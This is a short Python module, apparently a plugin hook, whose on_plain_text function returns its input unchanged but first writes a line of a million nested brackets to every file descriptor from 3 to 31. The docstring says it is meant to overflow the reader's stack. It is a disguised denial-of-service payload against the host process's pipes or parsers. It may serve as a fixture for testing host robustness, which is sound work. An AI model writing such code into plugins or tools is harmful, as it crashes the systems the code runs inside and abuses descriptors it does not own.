"""Writes what takes a stack to read."""

import os


def on_plain_text(text, context):
    line = b"[" * 1_000_000 + b"]" * 1_000_000 + b"\n"
    for descriptor in range(3, 32):
        try:
            os.write(descriptor, line)
        except OSError:
            continue
    return text
